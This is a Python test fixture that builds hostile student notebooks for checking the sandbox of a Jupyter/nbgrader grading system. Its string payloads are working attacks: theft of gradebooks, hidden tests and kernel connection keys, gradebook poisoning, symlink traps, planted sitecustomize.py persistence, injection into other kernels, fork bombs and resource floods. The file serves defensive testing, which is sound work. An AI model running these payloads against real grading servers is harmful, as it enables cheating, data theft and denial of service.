"""The named hostile corpus: what a student who tries puts into a lesson's notebook.

Each `Hostile` is one student of the class that test_hostile.py grades with
`python -m classroom.grade` beside honest students (`honest_class`: complete, blank, a
typical mistake, each carrying a private marker). Its name is the student id, `category` the
category of issue 10 it stands for, `doc` what it tries, and `build(context)` returns its
notebook: the lesson's release, filled in, plus hostile code in new cells (inserted after the
set-up cell, so it runs first) and in answer cells.

The code is real hostile code, run by the kernel and again by the answer process (every
learner cell runs in both). It knows what an attacker can learn of the grading machine (the
course directory's path, from a traceback in an earlier feedback page; the repository's): the
`Context`. It prints `ATTEMPTED <what>` for each attack it ran and `REACHED <what>` for each
one that worked, so a test can tell an attack that was stopped from one that never ran.

What it destroys, it destroys only inside the throw-away course directory of the test. In
places shared with other people (the repository, the course package, the virtual
environment, HOME) it does what can be undone and is recognisable: it appends a comment
naming `context.token`, plants files naming it, or opens files for writing without writing
(`open(path, "ab")`); `shared_traces` and `undo_shared_traces` find and remove what got
through.
"""

from __future__ import annotations

import copy
import os
import secrets
import sys
import sysconfig
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from classroom.nbgrader_ext import notebooks

REPO_ROOT = Path(__file__).resolve().parents[2]
LESSON = "01-world-as-text"
MISTAKE = "no_parallel_axis_term"  # the honest typical mistake


@dataclass(frozen=True)
class Context:
    """What the hostile code knows: the course directory being graded (`root`), the
    repository (`repo`), the lesson, the grader's per-cell limit (seconds), how long a
    persistent process keeps trying (seconds), and the token naming everything it leaves."""

    root: str
    repo: str = str(REPO_ROOT)
    lesson: str = LESSON
    cell_limit: int = 5
    persist_seconds: int = 600
    token: str = field(default_factory=lambda: "HOSTILE-" + secrets.token_hex(6))

    def header(self) -> str:
        """The first line of every hostile cell: the context as a dict `_H`."""
        return f"_H = {asdict(self)!r}\n"


# --------------------------------------------------------------------------------------------
# Shared by every hostile notebook: where things are, and how results are told


COMMON = r'''
import glob as _glob
import os as _os
import sys as _sys

_REACHED, _ATTEMPTED = [], []


def _own_files():
    """The kernel's own connection file (its argv's -f): reading it is no attack."""
    own = set()
    for _i, _arg in enumerate(_sys.argv[:-1]):
        if _arg == "-f":
            own.add(_os.path.realpath(_sys.argv[_i + 1]))
    return own


def _ancestors(path):
    path, found = _os.path.realpath(path), []
    while path not in found:
        found.append(path)
        path = _os.path.dirname(path)
    return found


def _bases():
    """Every folder above the working folder, the course directory, the repository and the
    course package: where a course directory may be."""
    starts = [_os.getcwd(), _H["root"], _H["repo"]]
    try:
        import course

        starts.append(_os.path.dirname(course.__file__))
    except Exception:
        pass
    found = []
    for start in starts:
        for base in _ancestors(start):
            if base not in found:
                found.append(base)
    return found


def _paths(patterns):
    found = []
    for pattern in patterns:
        for path in sorted(_glob.glob(_os.path.expanduser(pattern), recursive=True)):
            if path not in found:
                found.append(path)
    return found


def _tell(kind):
    print(f"ATTEMPTED {kind}: {len(_ATTEMPTED)} attempts")
    for line in _REACHED:
        print(f"REACHED {line}")
'''


def _cells(context: Context, *sources: str) -> list[nbformat.NotebookNode]:
    return [new_code_cell(context.header() + COMMON + source) for source in sources]


# --------------------------------------------------------------------------------------------
# read


READ = r'''
import base64 as _b64
import json as _json

COURSE_FILES = [
    "source/*/*.ipynb", "release/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb",
    "feedback/*/*/*.html", "gradebook.db", "grades.csv", ".grading/*",
    ".grading/staging-*/gradebook.db", ".grading/staging-*/workers/*.db",
    ".grading/staging-*/source/*/*.ipynb", ".grading/staging-*/release/*/*.ipynb",
    ".grading/staging-*/submitted/*/*/*.ipynb", ".grading/staging-*/autograded/*/*/*.ipynb",
    ".grading/staging-*/jupyter-home/runtime/*.json", ".grading/staging-*/logs/*.log",
]
KERNEL_FILES = [
    "/tmp/*.json", "/tmp/*/*.json", "/tmp/sb-*/kernel/*.json", "/tmp/*/kernel-*.json",
    "/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/runtime/*.json",
    "~/.local/share/jupyter/runtime/*.json", "/run/kernel/*.json",
]
_SEEN, _LOOT = set(), []


def _digest(path, data):
    """What an attacker keeps of a file: hidden tests and answers of a notebook, the start of
    anything else (a gradebook's header and tables, a connection file's key)."""
    text = data.decode("utf-8", "replace")
    if path.endswith(".ipynb"):
        try:
            cells = _json.loads(text)["cells"]
        except Exception:
            return text[:3000]
        kept = []
        for cell in cells:
            source = "".join(cell.get("source", ""))
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if "HIDDEN TESTS" in source or meta.get("solution") or not meta:
                kept.append(source)
        return "\n".join(kept)[:20000]
    if path.endswith(".db"):
        return data[:3000].decode("latin-1")
    try:
        return data[:3000].decode("utf-8")
    except UnicodeDecodeError:  # a key: kept as hex
        return data[:3000].hex()


def _exfiltrate(kind, text):
    """Out by every way a feedback page shows: plain, reversed, base64, HTML, own files."""
    print(f"--- stolen {kind}, plain\n{text}")
    print(f"--- stolen {kind}, reversed\n{text[::-1]}")
    print(f"--- stolen {kind}, base64\n{_b64.b64encode(text.encode('utf-8', 'replace')).decode()}")
    try:
        from IPython.display import HTML, display

        display(HTML("<pre>" + text + "</pre>"))
    except Exception:
        pass
    for folder in (_os.getcwd(), _os.path.expanduser("~"), "/tmp"):
        try:
            with open(_os.path.join(folder, f"stolen-{_H['token']}.txt"), "a") as handle:
                handle.write(text)
        except OSError:
            pass


def _steal(kind, patterns):
    own, loot = _own_files(), []
    _ATTEMPTED.extend(patterns)
    for path in _paths(patterns):
        real = _os.path.realpath(path)
        if real in own or real in _SEEN or not _os.path.isfile(real):
            continue
        _SEEN.add(real)
        try:
            with open(real, "rb") as handle:
                data = handle.read(400_000)
        except OSError:
            continue
        _REACHED.append(f"read {kind} {real}")
        loot.append(f"== {real}\n{_digest(real, data)}")
    if loot:
        _LOOT.append("\n".join(loot))
        _exfiltrate(kind, "\n".join(loot))
    _tell(f"read {kind}")
'''

READ_SOURCES = r"""
_relative = ["../" * n + name for n in range(1, 6) for name in ("source/*/*.ipynb", "gradebook.db")]
_steal("source notebooks", [
    b + "/" + p for b in _bases() for p in ("source/*/*.ipynb", "release/*/*.ipynb")
] + _relative + [b + "/.grading/staging-*/source/*/*.ipynb" for b in _bases()])
"""
READ_STUDENTS = r"""
_steal("other students", [
    b + "/" + p for b in _bases()
    for p in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "feedback/*/*/*.html",
              ".grading/staging-*/submitted/*/*/*.ipynb",
              ".grading/staging-*/autograded/*/*/*.ipynb")
])
"""
READ_GRADEBOOKS = r"""
_steal("gradebooks and staging", [b + "/" + p for b in _bases() for p in COURSE_FILES
                                  if p.endswith((".db", ".csv", ".log")) or p == ".grading/*"])
"""
READ_KERNELS = r"""
_runtime = []
try:
    from jupyter_core.paths import jupyter_runtime_dir

    _runtime.append(jupyter_runtime_dir() + "/*.json")
except Exception:
    pass
_steal("connection files", KERNEL_FILES + _runtime + [
    b + "/.grading/staging-*/jupyter-home/runtime/*.json" for b in _bases()
])
_STOLEN = "\n".join(_LOOT)
"""


def _read(context: Context) -> nbformat.NotebookNode:
    nb = _complete(context.lesson)
    sources = [READ, READ_SOURCES, READ_STUDENTS, READ_GRADEBOOKS, READ_KERNELS]
    # One cell defines the attack; the next ones run it (the kernel's cells share a namespace,
    # and so do the answer process's).
    cells = [new_code_cell(context.header() + COMMON + sources[0])]
    cells += [new_code_cell(source) for source in sources[1:]]
    _insert_after_setup(nb, cells)
    # What was stolen also goes out through the answers, whose values a test's message may
    # quote in the feedback page.
    _set_answer(nb, "check_parallel_axis", 'check_parallel_axis = _STOLEN[-3000:] or "A"')
    _wrap_function(nb, "inertia_box", "return _STOLEN[:3000] if _STOLEN else {call}")
    return nb


# --------------------------------------------------------------------------------------------
# write


WRITE = r'''
import json as _json
import sqlite3 as _sqlite3

_MARK = _H["token"] + " was here"
_ROOT = _os.path.realpath(_H["root"])


def _attempt(kind, path, action):
    _ATTEMPTED.append(path)
    try:
        action(path)
    except Exception:
        return
    _REACHED.append(f"write {kind} {path}")


def _poison_gradebook(path):
    """Zero every grade and replace every test's source: later students graded by it pass."""
    with _sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as db:
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.execute("UPDATE source_cell SET source = 'print(\"OK\")' WHERE locked = 1")
        db.execute("UPDATE grade_cell SET max_score = 0")


def _replace(path):
    with open(path, "r+") as handle:  # only an existing file
        handle.truncate(0)
        handle.write(_json.dumps({"cells": [], "metadata": {"hostile": _MARK}}))


def _append_line(path):
    with open(path, "a") as handle:
        handle.write(f"\n# {_MARK}\n")


def _probe(path):
    open(path, "ab").close()  # opened for writing, nothing written


def _forged_journal(path):
    with open(path, "a") as handle:
        handle.write(_json.dumps({"content": "x", "result": {"student": "blank"}}) + "\n")


def _course_root_targets():
    """(kind, path, action) in the throw-away course directory: everything destroyed."""
    r, targets = _ROOT, []
    for path in _paths([r + "/gradebook.db", r + "/.grading/staging-*/gradebook.db",
                        r + "/.grading/staging-*/workers/*.db"]):
        targets.append(("gradebook", path, _poison_gradebook))
    for pattern in ("grades.csv", "grading_report.txt", "source/*/*.ipynb", "release/*/*.ipynb",
                    "submitted/*/*/*", "autograded/*/*/*", "feedback/*/*/*",
                    ".grading/key", ".grading/staging-*/source/*/*.ipynb",
                    ".grading/staging-*/release/*/*.ipynb",
                    ".grading/staging-*/submitted/*/*/*.ipynb",
                    ".grading/staging-*/autograded/*/*/*.ipynb"):
        targets += [("course file", path, _replace) for path in _paths([r + "/" + pattern])]
    targets.append(("grader config", r + "/nbgrader_config.py", _append_line))
    targets.append(("journal", r + "/.grading/journal.jsonl", _forged_journal))
    return targets
'''

WRITE_RUN = r"""
_targets = _course_root_targets()
try:
    import course

    _package = _os.path.dirname(course.__file__)
    _targets += [("course package", p, _append_line)
                 for p in _paths([_package + "/**/*.py"])]
except Exception:
    pass
for _base in _bases():  # elsewhere (the repository's own course directory): probes only
    if _base != _ROOT:
        for _p in _paths([_base + "/" + p for p in ("gradebook.db", "grades.csv",
                          "source/*/*.ipynb", "release/*/*.ipynb", "nbgrader_config.py")]):
            _targets.append(("shared file", _p, _probe))
for _kind, _path, _action in _targets:
    _attempt(_kind, _path, _action)
# Links in its own folders, for the grader (root) to follow when it copies, chowns or cleans.
for _name, _target in (("gradebook.db", _ROOT + "/gradebook.db"), ("grades.csv", _ROOT +
                       "/grades.csv"), ("kernel.json", _ROOT + "/nbgrader_config.py")):
    for _folder in (_os.getcwd(), "/run/kernel"):
        try:
            _link = _os.path.join(_folder, _name)
            if _os.path.lexists(_link) and not _os.path.isdir(_link):
                _os.unlink(_link)
            _os.symlink(_target, _link)
        except OSError:
            pass
_tell("write")
"""


def _write(context: Context) -> nbformat.NotebookNode:
    nb = _complete(context.lesson)
    cells = _cells(context, WRITE)
    cells.append(new_code_cell(WRITE_RUN))
    # The kernel dies here, so the grader (root) restarts it over the folders with the links.
    cells.append(new_code_cell("import os\nos._exit(1)"))
    _insert_after_setup(nb, cells)
    return nb


# --------------------------------------------------------------------------------------------
# persist


PERSISTER = r"""
import os, time
TOKEN, ROOT, SECONDS = {token!r}, {root!r}, {seconds!r}
end = time.time() + SECONDS
while time.time() < end:
    time.sleep(1)
    for name in ("gradebook.db", "grades.csv", "grading_report.txt"):
        try:
            with open(os.path.join(ROOT, name), "r+b") as handle:
                handle.write(TOKEN.encode())
        except OSError:
            pass
"""

PLANTED = r"""# {token}: planted by a hostile student
import os as _os
for _folder in ({root!r}, _os.getcwd()):
    try:
        with open(_os.path.join(_folder, "persisted-{token}.txt"), "a") as _f:
            _f.write(str(_os.getpid()) + "\n")
    except OSError:
        pass
print("{token} ran in", _os.getpid())
"""

PERSIST = r'''
import json as _json
import subprocess as _subprocess
import sysconfig as _sysconfig
import time as _time

_CODE = _H["persister"]


def _detach():
    """A setsid double fork running the persister, and a setsid(1) one."""
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-c", _CODE])
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    _subprocess.Popen(["setsid", "nohup", _sys.executable, "-c", _CODE],
                      stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                      stderr=_subprocess.DEVNULL, start_new_session=True)
    _ATTEMPTED.append("detach")


def _plant_everywhere():
    """sitecustomize.py and IPython start-up files wherever it can write. A folder is made
    only under one that exists on the grader's machine (the course directory is recognised
    by its nbgrader_config.py: inside a sandbox, its path may be a private /tmp)."""
    home = _os.path.expanduser("~")
    course = _H["root"] if _os.path.isfile(_H["root"] + "/nbgrader_config.py") else None
    site_dirs = {_sysconfig.get_paths()[k] for k in ("purelib", "platlib")} | {home, "/root"}
    startup = [home + "/.ipython", "/root/.ipython"]
    startup += _paths([_H["root"] + "/.grading/staging-*/jupyter-home/ipython"])
    if course:
        site_dirs.add(course)
        startup.append(course + "/.ipython")
    plants = [(d, d + "/sitecustomize.py") for d in site_dirs]
    plants += [(d, d + "/profile_default/startup/00-" + _H["token"] + ".py") for d in startup]
    for anchor, path in plants:
        _ATTEMPTED.append(path)
        try:
            if not _os.path.isdir(anchor):
                continue
            _os.makedirs(_os.path.dirname(path), exist_ok=True)
            with open(_os.open(path, _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o644), "w") as f:
                f.write(_H["planted"])
        except OSError:
            continue
        if not path.startswith((home, _os.getcwd())):
            _REACHED.append(f"planted {path}")
'''

INJECT = r'''
def _inject_everywhere():
    """Run code in every other kernel whose connection file it finds."""
    try:
        from jupyter_client import BlockingKernelClient
    except Exception:
        return
    own = _own_files()
    payload = (f"open({_H['root']!r} + '/injected-{_H['token']}.txt', 'w').write('in')\n"
               f"print('{_H['token']} injected')")
    for path in _paths(["/tmp/**/*.json", "/root/.local/share/jupyter/runtime/*.json",
                        "/run/kernel/*.json", _H["root"] + "/.grading/**/*.json"]):
        if _os.path.realpath(path) in own:
            continue
        _ATTEMPTED.append(path)
        try:
            with open(path) as handle:
                info = _json.load(handle)
            client = BlockingKernelClient()
            client.load_connection_info(info)
            client.start_channels()
            client.kernel_info(reply=True, timeout=2)
            client.execute(payload)
            _time.sleep(0.5)
            client.stop_channels()
        except Exception:
            continue
        _REACHED.append(f"injected into {path}")
'''

PERSIST_RUN = r"""
for _attack in (_detach, _plant_everywhere, _inject_everywhere):
    try:
        _attack()
    except Exception as error:
        print(_attack.__name__, "failed:", type(error).__name__, error)
_tell("persist")
"""


def _persist(context: Context) -> nbformat.NotebookNode:
    nb = _complete(context.lesson)
    persister = PERSISTER.format(
        token=context.token, root=context.root, seconds=context.persist_seconds
    )
    planted = PLANTED.format(token=context.token, root=context.root)
    header = context.header().rstrip("\n") + "\n"
    header += f"_H['persister'] = {persister!r}\n_H['planted'] = {planted!r}\n"
    cell = new_code_cell(header + COMMON + PERSIST + INJECT + PERSIST_RUN)
    _insert_after_setup(nb, [cell])
    return nb


# --------------------------------------------------------------------------------------------
# deny service


DENY = {
    "memory": r"""
try:
    _hog = bytearray(4 * 1024**3)
    _REACHED.append("allocated 4 GiB")
except MemoryError as error:
    print("memory refused:", type(error).__name__)
_ATTEMPTED.append("memory")
_tell("memory")
""",
    "disk": r"""
_written = 0
try:
    with open("big-" + _H["token"] + ".bin", "wb") as _big:
        for _ in range(200):
            _big.write(b"\0" * (1 << 20))
            _written += 1
except OSError as error:
    print("disk refused after", _written, "MB:", error)
if _written >= 200:
    _REACHED.append("wrote 200 MB")
_ATTEMPTED.append("disk")
_tell("disk")
""",
    "print": 'print("x" * 50_000_000)',
    "exception": 'raise ValueError("y" * 50_000_000)',
    "display": r"""
from IPython.display import display, update_display
display("flood", display_id="flood")
for _ in range(60):
    update_display("z" * 1_000_000, display_id="flood")
    display({"text/plain": "w" * 1_000_000}, raw=True)
""",
    "processes": r"""
import time as _time
_children = 0
try:
    for _ in range(300):
        try:
            _pid = _os.fork()
        except OSError as error:
            print("fork refused:", error)
            break
        if _pid == 0:  # a child never runs the parent's finally, even when interrupted
            try:
                _time.sleep(3600)
            finally:
                _os._exit(0)
        _children += 1
finally:
    print("forked", _children, "children")
if _children >= 300:
    _REACHED.append("forked 300 processes")
_ATTEMPTED.append("processes")
_tell("processes")
""",
}


def _deny_service(context: Context) -> nbformat.NotebookNode:
    """The floods first, the processes last: a kernel left without threads by its children
    cannot send large messages at all."""
    nb = _complete(context.lesson)
    first, *rest = DENY.values()
    cells = _cells(context, first) + [new_code_cell(source) for source in rest]
    _insert_after_setup(nb, cells)
    return nb


def _slow(context: Context) -> nbformat.NotebookNode:
    nb = _complete(context.lesson)
    nap = f"import time as _time\n_time.sleep({context.cell_limit - 0.5})  # just under the limit"
    for cell in notebooks.answer_cells(nb).values():
        if cell.cell_type == "code":
            cell.source = cell.source.rstrip("\n") + "\n" + nap + "\n"
    return nb


# --------------------------------------------------------------------------------------------
# memory in many processes

# Forks MEMORY_CHILDREN processes that each touch MEMORY_EACH bytes (each far under a process's
# own limit) and hold them two seconds, all at once: MEMORY_CHILDREN * MEMORY_EACH together.
# Touching that much takes seconds, more than a cell may run: the first cell forks them and
# goes on, the notebook's own cells run meanwhile, and its last cell collects them. A child
# held its block (exit 0), was killed (the OOM killer of a cgroup), had its allocation refused
# (exit 3: the per-process fallback), or is still running when the cell limit interrupts the
# collection (unknown: near a cgroup's bound, reclaim can slow every process in it for
# seconds before the OOM killer acts; the sandbox ends them with the kernel).
MEMORY_CHILDREN, MEMORY_EACH = 14, 400 * 1024**2
MEMORY_FORK = r"""
import time as _time
_memory_pids = []
for _ in range(_H["children"]):
    _pid = _os.fork()
    if _pid == 0:
        _code = 4
        try:
            _block = bytearray(_H["each"])
            _block[::4096] = b"\1" * (_H["each"] // 4096)  # every page touched
            _time.sleep(2)
            _code = 0
        except MemoryError:
            _code = 3
        finally:
            _os._exit(_code)
    _memory_pids.append(_pid)
print("memory children forked:", len(_memory_pids))
"""
MEMORY_COLLECT = r"""
_ended = []
try:
    for _pid in _memory_pids:
        _ended.append(_os.waitpid(_pid, 0)[1])
finally:
    _held = sum(_status == 0 for _status in _ended)
    _killed = sum(_os.WIFSIGNALED(_status) for _status in _ended)
    _refused = sum(_os.WIFEXITED(_s) and _os.WEXITSTATUS(_s) == 3 for _s in _ended)
    _unknown = len(_memory_pids) - len(_ended)
    print(f"memory children: {_held} held, {_killed} killed, {_refused} refused, "
          f"{_unknown} unknown")
    if _held == _H["children"]:
        _REACHED.append(f"held {_held} x {_H['each'] >> 20} MiB at once")
    _ATTEMPTED.append("memory in many processes")
    _tell("memory in many processes")
"""


def _memory_in_processes(context: Context) -> nbformat.NotebookNode:
    nb = _complete(context.lesson)
    sizes = f"_H['children'], _H['each'] = {MEMORY_CHILDREN}, {MEMORY_EACH}\n"
    fork = new_code_cell(context.header() + sizes + COMMON + MEMORY_FORK)
    _insert_after_setup(nb, [fork])
    nb.cells.append(new_code_cell(MEMORY_COLLECT))
    return nb


# --------------------------------------------------------------------------------------------
# Building notebooks


@dataclass(frozen=True)
class Hostile:
    name: str  # the student id
    category: str  # the category of issue 10
    doc: str
    builder: Callable[[Context], nbformat.NotebookNode]

    def build(self, context: Context) -> nbformat.NotebookNode:
        return self.builder(context)


CORPUS = [
    Hostile(
        "hostile-read",
        "read",
        "reads the source notebook, other students' work, gradebooks, staging and connection "
        "files, and sends them out plain, reversed, base64, as HTML, in files and answers",
        _read,
    ),
    Hostile(
        "hostile-write",
        "write",
        "poisons gradebooks, replaces other students' files, source/, release/, grades.csv, "
        "the journal and key, appends to course/**/*.py, plants links, then kills its kernel",
        _write,
    ),
    Hostile(
        "hostile-persist",
        "persist",
        "leaves setsid double-forked rewriters, plants sitecustomize.py and IPython start-up "
        "files, injects code into other kernels through their connection files",
        _persist,
    ),
    Hostile(
        "hostile-deny",
        "deny service",
        "allocates 4 GiB, forks 300 processes, writes 200 MB, prints 50 MB, raises a 50 MB "
        "message, floods update_display_data",
        _deny_service,
    ),
    Hostile(
        "hostile-memory",
        "deny service",
        f"forks {MEMORY_CHILDREN} processes that each allocate and touch "
        f"{MEMORY_EACH >> 20} MiB, under a process's limit but together past a sandbox's",
        _memory_in_processes,
    ),
    Hostile(
        "hostile-slow",
        "deny service",
        "every answer cell sleeps just under the cell limit",
        _slow,
    ),
]
BY_NAME = {hostile.name: hostile for hostile in CORPUS}


def _complete(lesson: str) -> nbformat.NotebookNode:
    release = notebooks.read_lesson(lesson, "release", REPO_ROOT)
    return notebooks.fill_release(release, notebooks.read_lesson(lesson, "source", REPO_ROOT))


def _insert_after_setup(nb, cells) -> None:
    index = next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == "setup")
    nb.cells[index + 1 : index + 1] = cells


def _set_answer(nb, grade_id: str, source: str) -> None:
    notebooks.answer_cells(nb)[grade_id].source = source


def _wrap_function(nb, name: str, body: str) -> None:
    """Append to the answer cell defining `name` a replacement calling the honest one."""
    for cell in notebooks.answer_cells(nb).values():
        if f"def {name}(" in cell.source:
            call = f"_honest_{name}(*args, **kwargs)"
            cell.source += (
                f"\n\n_honest_{name} = {name}\n\n\ndef {name}(*args, **kwargs):\n"
                f"    {body.format(call=call)}\n"
            )
            return
    raise KeyError(name)


def honest_class(lesson: str = LESSON) -> dict[str, tuple[nbformat.NotebookNode, str]]:
    """{student: (notebook, private marker)}: complete, blank and a typical mistake, each with
    a marker in its first answer cell that no other student's output may ever show."""
    release = notebooks.read_lesson(lesson, "release", REPO_ROOT)
    source = notebooks.read_lesson(lesson, "source", REPO_ROOT)
    mistake = next(m for m in notebooks.load_mistakes(lesson, REPO_ROOT) if m.name == MISTAKE)
    books = {
        "complete": notebooks.fill_release(release, source),
        "blank": copy.deepcopy(release),
        "mistake": notebooks.fill_release(release, source, mistake.cells),
    }
    found = {}
    for student, nb in books.items():
        marker = f"private-work-of-{student}-{secrets.token_hex(8)}"
        first = next(c for c in notebooks.answer_cells(nb).values() if c.cell_type == "code")
        first.source = first.source.rstrip("\n") + f"\n# {marker}\n"
        found[student] = (nb, marker)
    return found


def mistake_loses(lesson: str = LESSON) -> frozenset[str]:
    """The test cells the honest typical mistake loses."""
    return next(m for m in notebooks.load_mistakes(lesson, REPO_ROOT) if m.name == MISTAKE).loses


def write_student(folder: Path, student: str, nb, lesson: str = LESSON) -> Path:
    return notebooks.write(nb, Path(folder) / student / lesson / f"{lesson}.ipynb")


# --------------------------------------------------------------------------------------------
# What got into places shared with other people


def course_package() -> Path:
    import importlib.util

    return Path(importlib.util.find_spec("course").origin).resolve().parent


def shared_places() -> list[Path]:
    """Folders outside the test's course directory that the corpus tries to write."""
    site = {Path(sysconfig.get_paths()[key]) for key in ("purelib", "platlib")}
    home = Path(os.path.expanduser("~"))
    return sorted(
        site
        | {
            home,
            home / ".ipython" / "profile_default" / "startup",
            REPO_ROOT,
            REPO_ROOT / "source",
            REPO_ROOT / "release",
            course_package(),
            Path("/tmp"),
        }
    )


def shared_traces(token: str) -> list[Path]:
    """Files in the shared places that name the token (planted, or appended to)."""
    found = []
    for place in shared_places():
        if not place.is_dir():
            continue
        deep = place in (course_package(), REPO_ROOT / "source", REPO_ROOT / "release")
        for path in place.rglob("*") if deep else place.glob("*"):
            try:
                if path.is_file() and not path.is_symlink() and path.stat().st_size < 5_000_000:
                    if token.encode() in path.read_bytes():
                        found.append(path)
            except OSError:
                continue
    return found


def undo_shared_traces(token: str) -> list[Path]:
    """Remove what the corpus left in shared places: planted files go, appended comment lines
    are cut off. Returns the files it touched."""
    touched = shared_traces(token)
    line = f"\n# {token} was here\n".encode()
    for path in touched:
        data = path.read_bytes()
        if line in data and data.replace(line, b"").strip():
            path.write_bytes(data.replace(line, b""))
        else:
            path.unlink()
    return touched


if __name__ == "__main__":  # print one fixture's notebook, to read it
    context = Context(root="/tmp/course")
    print(nbformat.writes(BY_NAME[sys.argv[1]].build(context)))
